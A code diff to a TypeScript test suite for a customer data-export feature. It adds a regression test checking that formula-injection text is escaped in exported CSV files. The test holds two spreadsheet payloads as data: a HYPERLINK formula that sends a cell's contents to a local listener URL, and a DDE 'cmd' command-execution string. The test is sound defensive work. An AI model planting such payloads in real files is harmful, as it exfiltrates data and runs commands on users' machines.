@@ -138,7 +138,7 @@ describe("the copy of the demo customer", () => {
       for (const r of rows) expect(r.length, name).toBe(width);
     }
     const purchases = parseCsv(strFromU8(files[csvNames.find((n) => n.endsWith("-purchases.csv"))!]!));
-    expect(purchases[0]![0]).toBe("record");
+    expect(purchases[0]![0]).toBe("Slag av post");
     expect(purchases.length - 1).toBe(
       section("purchases", "orders").rowCount +
         section("purchases", "order_items").rowCount +
@@ -255,7 +255,7 @@ describe("connector failures", () => {
       where: { requestId: copy.requestId!, kind: "connector_failed" },
     });
     expect(tasks.map((t) => t.recipientKey).sort()).toEqual(["google_analytics", "m365", "wix"]);
-    expect(tasks.every((t) => !t.detail?.includes("someone@example.com"))).toBe(true);
+    expect(tasks.every((t) => !JSON.stringify(t.facts).includes("someone@example.com"))).toBe(true);
     const built = await db.copy.findUniqueOrThrow({ where: { id: copy.id } });
     expect(JSON.stringify(built.connectorReport)).toContain('"failure":"timeout"');
   });
@@ -441,5 +441,46 @@ describe("two attempts at building one copy at once", () => {
     expect(Object.keys(files)).toContain("data.json");
     expect(await db.emailMessage.count({ where: { personId: person.id, kind: "copyReady" } })).toBe(1);
     expect(await db.auditEntry.count({ where: { targetId: copy.id, action: "copy.built" } })).toBe(1);
+  });
+});
+
+// Formula injection: text sent through the ingest pipeline that a spreadsheet would run. Before,
+// `+` or `-` followed by a digit passed unescaped into csv/*.csv.
+describe("text that a spreadsheet would run as a formula", () => {
+  it("arrives in the copy's CSV behind an apostrophe, and unchanged in data.json", async () => {
+    const { runRecords } = await import("../../import/pipeline");
+    const p = await db.person.create({
+      data: { email: `${randomUUID()}@test.example`, firstName: "Formel", lastName: "Test" },
+    });
+    const payloads = [`-1+HYPERLINK("http://127.0.0.1:3499/?"&A1,"x")`, "-2+3+cmd|' /C calc'!A0"];
+    const summary = await runRecords(
+      "web-events",
+      payloads.map((text, i) => ({
+        position: i,
+        value: {
+          externalId: `formula-${randomUUID()}`,
+          customerEmail: p.email,
+          occurredAt: new Date(Date.now() - 60_000 * (i + 1)).toISOString(),
+          kind: "page_view",
+          referrer: text,
+          browser: text,
+        },
+      })),
+      { positionKey: "index", onResult: () => undefined },
+    );
+    expect(summary.rejected).toBe(0);
+    const copy = await queuedCopy(p.id);
+    expect(await buildCopy(copy.id, { connectors: connectors(), exportDir: dir })).toBe("ready");
+    const files = await unzipCopy(copy.id);
+    const cells = Object.keys(files)
+      .filter((n) => n.startsWith("csv/"))
+      .flatMap((n) => parseCsv(Buffer.from(files[n]!).toString("utf8")).flat());
+    for (const text of payloads) {
+      expect(cells.filter((c) => c === `'${text}`).length).toBeGreaterThanOrEqual(2);
+      expect(cells).not.toContain(text);
+    }
+    expect(cells.some((c) => /^[=+\-@\t\r]/.test(c))).toBe(false);
+    const data = strFromU8(files["data.json"]!);
+    for (const text of payloads) expect(data).toContain(JSON.stringify(text));
   });
 });
